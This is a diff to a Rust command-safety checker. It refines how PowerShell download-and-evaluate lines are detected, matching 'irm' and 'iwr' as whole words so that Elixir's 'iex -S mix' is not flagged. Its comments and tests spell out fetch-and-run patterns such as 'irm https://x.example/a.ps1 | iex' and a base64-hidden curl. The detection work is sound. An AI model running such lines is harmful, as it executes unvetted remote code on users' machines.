@@ -223,14 +223,8 @@ fn is_opaque(command: &Program) -> bool {
 
 /// Whether a line of PowerShell evaluates what it downloads: `iex ([Net.WebClient]::new().DownloadString('…'))`.
 pub(super) fn evaluates_download(line: &str, programs: &[Program]) -> bool {
-    const DOWNLOADS: &[&str] = &[
-        "downloadstring(",
-        "downloaddata(",
-        "irm ",
-        "iwr ",
-        "invoke-restmethod ",
-        "invoke-webrequest ",
-    ];
+    const DOWNLOADS: &[&str] = &["downloadstring(", "downloaddata("];
+    const CMDLETS: &[&str] = &["irm", "iwr", "invoke-restmethod", "invoke-webrequest"];
     // Programs for which the line may be a text.
     const TEXT: &[&str] = &[
         "awk", "cat", "echo", "gh", "git", "grep", "jq", "printf", "python", "python3", "rg", "sed", "tee",
@@ -241,9 +235,10 @@ pub(super) fn evaluates_download(line: &str, programs: &[Program]) -> bool {
     }
     let folded = line.to_ascii_lowercase();
     let is_boundary = |letter: char| letter.is_whitespace() || "|;&{}()=".contains(letter);
-    let mut words = folded.split(is_boundary);
-    let evaluates = words.any(is_evaluator) || folded.contains("[scriptblock]::create(");
-    evaluates && DOWNLOADS.iter().any(|download| folded.contains(download))
+    let words = || folded.split(is_boundary);
+    let evaluates = words().any(is_evaluator) || folded.contains("[scriptblock]::create(");
+    let downloads = || words().any(|word| CMDLETS.contains(&word));
+    evaluates && (downloads() || DOWNLOADS.iter().any(|download| folded.contains(download)))
 }
 
 /// Whether PowerShell downloads something: `irm`, `(New-Object Net.WebClient).DownloadString('…')`.
@@ -340,6 +335,7 @@ mod tests {
             "echo 'irm https://x.example/a.ps1 | iex' >> README.md",
             r#"T=$(echo Y3VybA== | base64 -d); echo "$T""#,
             r#"V=$(git describe); sh -c "echo $V""#,
+            "iex -S mix phx.server # confirm it",
         ] {
             assert!(!is_asked("Fix the parser", command), "{command}");
         }
